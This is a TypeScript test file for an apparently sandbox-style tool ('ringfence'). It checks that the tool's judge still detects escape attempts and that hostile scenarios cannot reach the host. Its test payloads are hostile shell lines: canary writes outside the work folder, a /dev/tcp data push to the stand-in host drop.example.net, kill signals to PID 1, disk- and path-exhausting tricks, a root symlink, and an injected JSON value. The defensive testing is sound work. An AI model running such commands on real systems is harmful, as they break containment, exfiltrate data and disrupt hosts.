/**
 * Whoever is in the cell, or wrote the scenario, tries to keep the judge from seeing what happened, or to do harm outside.
 */
import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import {
  faultsOf,
  findTargets,
  parseScenario,
  type Scenario,
  type TargetName,
  type Trial,
  tryBoth,
} from '../../src/attack/index.ts';
import { makePlaces, removePlaces } from '../../src/attack/places.ts';
import { installation } from '../../src/cli/installation.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const scratch = mkdtempSync(join(tmpdir(), 'ringfence-judge-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

const own = { words: [process.execPath, join(ROOT, 'dist/cli.js')], version: '' };
const programs = {
  launcher: installation().launcher,
  inside: [process.execPath, join(ROOT, 'dist/attack.js')],
};

/** A scenario as somebody else could have written it. */
function scenario(parts: Record<string, unknown>): Scenario {
  const text = JSON.stringify({
    scenario: 1,
    id: 'escape.of-somebody',
    hazard: 'escape',
    title: 'Somebody’s',
    attempts: 'What somebody else wrote.',
    contract: {},
    honest: 'echo well > report.txt',
    takes: ['report.txt'],
    effect: [{ file: { in: 'outside', path: 'mark', holds: '$CANARY' } }],
    done: [{ file: { in: 'work', path: 'report.txt', holds: 'well' } }],
    ...parts,
  });
  const parsed = parseScenario(text, 'scenarios/escape.of-somebody.yaml', { tools: new Map() });
  if (!parsed.ok) throw new Error(JSON.stringify(parsed.problems));
  return parsed.scenario;
}

function attempt(parts: Record<string, unknown>, name: TargetName): Promise<Trial> {
  const [found] = findTargets([name], own);
  if (!found?.ok) throw new Error('it is always there');
  return tryBoth(scenario(parts), found.target, 1, { programs, tools: new Map() });
}

/** The effect of all that follow. */
const MARK = 'echo "$CANARY" > "$WORK/../outside/mark"';

describe('an effect is seen', () => {
  it.each([
    ['behind a pipe that nobody writes to', { payload: `${MARK}; mkfifo report.txt` }, 'file outside/mark'],
    [
      'in a file with a terabyte of holes',
      { payload: `${MARK}; truncate -s 1T "$WORK/../outside/mark"` },
      'file outside/mark',
    ],
    [
      'behind folders deeper than a path may be',
      {
        payload: `${MARK}; i=0; while [ $i -lt 60 ]; do d=$(printf %0100d 0); mkdir $d && cd $d || break; i=$((i + 1)); done`,
      },
      'file outside/mark',
    ],
    [
      'after more output than is kept',
      {
        payload: 'head -c 3000000 /dev/zero | tr "\\0" x; echo "said-$CANARY"',
        effect: [{ printed: { word: 'said-$CANARY' } }],
      },
      'printed',
    ],
    [
      'after more bytes than are kept',
      {
        standIns: { drop: { kind: 'tcp', host: 'drop.example.net', port: 9 } },
        needs: ['bash'],
        payload: `bash -c 'exec 3<>/dev/tcp/'"$DROP_HOST"'/9; head -c 9000000 /dev/zero | tr "\\0" x >&3; echo "$CANARY" >&3; head -c 9000000 /dev/zero | tr "\\0" y >&3'`,
        effect: [{ arrived: { at: 'drop', word: '$CANARY' } }],
      },
      'arrived drop',
    ],
  ] as const)(
    '%s',
    async (_how, parts, sign) => {
      const trial = await attempt(parts, 'none');
      expect(trial).toMatchObject({ contained: false, signs: [sign] });
    },
    60_000,
  );
  it('by a judge that cannot be stopped', async () => {
    const trial = await attempt({ payload: `kill -STOP 1; kill -KILL 1; kill -USR1 1; ${MARK}` }, 'none');
    expect(trial).toMatchObject({ contained: false, signs: ['file outside/mark'] });
  }, 60_000);
});

it('folders of an attempt go, however deep they are', () => {
  const places = makePlaces();
  const deep =
    'i=0; while [ $i -lt 60 ]; do d=$(printf %0100d 0); mkdir $d && cd $d || break; i=$((i + 1)); done; mkdir -m 0 shut';
  spawnSync('sh', ['-c', deep], { cwd: places.work });
  removePlaces(places);
  expect(existsSync(places.root)).toBe(false);
});

describe('from a cell', () => {
  it('what a change set has does not keep it from being judged', async () => {
    const trial = await attempt(
      {
        payload: [
          'i=0; while [ $i -lt 1500 ]; do : > "a rather long name of a file that nobody needs $i"; i=$((i + 1)); done',
          `printf x > "$(printf 'a\\033[2Jb\\nc')"`,
          'mkfifo report.txt pipe; ln -s / root; mkdir -m 0 shut',
          'i=0; while [ $i -lt 40 ]; do d=$(printf %0100d 0); mkdir $d && cd $d || break; i=$((i + 1)); done',
          `head -c 1000000 /dev/zero | tr "\\0" x; ${MARK}`,
        ].join('\n'),
      },
      'ringfence',
    );
    expect(trial).toMatchObject({ contained: true, honest: true });
    expect(trial.skipped).toBeUndefined();
  }, 120_000);

  it('nothing is said of what needs two cells where the second one was not started', async () => {
    const once = `sh -c 'test ! -e ran && : > ran && exec sh -c "$0"' {script}`;
    const [found] = findTargets([], own, once);
    if (!found?.ok) throw new Error('a template is always there');
    const two = scenario({ payload: 'true', second: MARK });
    const trial = await tryBoth(two, found.target, 1, { programs, tools: new Map() });
    expect(trial.skipped).toMatch(/not started/);
  }, 60_000);
});

describe('a scenario of somebody else', () => {
  it('reaches no service of the machine, no file that it could change, no process', async () => {
    const service = mkdtempSync('/var/tmp/ringfence-judge-');
    const file = join(service, 'theirs');
    const socket = join(service, 'sock');
    let came = 0;
    const server = createServer(() => {
      came += 1;
    });
    await new Promise<void>((done) => server.listen(socket, done));
    writeFileSync(file, 'as it was');
    const other = spawn('sleep', ['60'], { stdio: 'ignore' });
    const lines = [
      `python3 -c 'import socket; socket.socket(socket.AF_UNIX).connect("${socket}")'`,
      `echo changed > ${file}; echo changed > "$HOME/../../../${file}"; kill -9 ${other.pid}`,
      'true',
    ].join('\n');
    const trial = await attempt(
      { needs: ['python3'], setup: lines, payload: `${lines}\n${MARK}`, afterwards: lines },
      'none',
    );
    const isAlive = other.exitCode === null && other.signalCode === null;
    other.kill('SIGKILL');
    await once(other, 'exit');
    await new Promise((done) => server.close(done));
    const text = readFileSync(file, 'utf8');
    rmSync(service, { recursive: true });
    expect(trial).toMatchObject({ contained: false, signs: ['file outside/mark'] });
    expect([came, text, isAlive]).toEqual([0, 'as it was', true]);
  }, 60_000);

  const wrong: [what: string, target: TargetName, parts: Record<string, unknown>][] = [
    ['a value with a quotation mark', 'none', { vary: { WORD: ['", "host": "example.org'] } }],
    ['a contract that is none', 'ringfence', { contract: { network: 5 } }],
  ];
  it.each(wrong)(
    '%s ends nothing but itself',
    async (_what, name, parts) => {
      const drop = { kind: 'http', host: 'drop.example.net', port: 80, pages: { '/': '$WORD' } };
      const trial = await attempt({ standIns: { drop }, payload: MARK, ...parts }, name);
      expect(trial.contained === false || trial.skipped !== undefined).toBe(true);
    },
    60_000,
  );
});

it('what began and was not judged is no success', async () => {
  const inside = join(scratch, 'inside.sh');
  writeFileSync(inside, 'echo began; exit 1\n');
  const [found] = findTargets(['ringfence'], own);
  if (!found?.ok) throw new Error('it is always there');
  const trial = await tryBoth(scenario({ payload: MARK }), found.target, 1, {
    programs: { ...programs, inside: ['sh', inside] },
    tools: new Map(),
  });
  expect(trial).toMatchObject({ lost: true, skipped: expect.any(String) });
  expect(faultsOf([trial]).join()).toContain('what it did is not known');
});
